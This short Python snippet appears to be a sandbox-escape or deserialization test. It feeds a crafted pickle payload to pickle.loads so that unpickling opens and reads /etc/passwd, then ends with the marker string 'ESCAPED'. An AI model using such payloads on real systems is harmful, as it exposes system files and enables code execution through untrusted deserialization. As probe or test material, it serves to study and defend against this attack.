import pickle

pickle.loads(b"cbuiltins\nopen\n(V/etc/passwd\ntR.").read()
"ESCAPED"
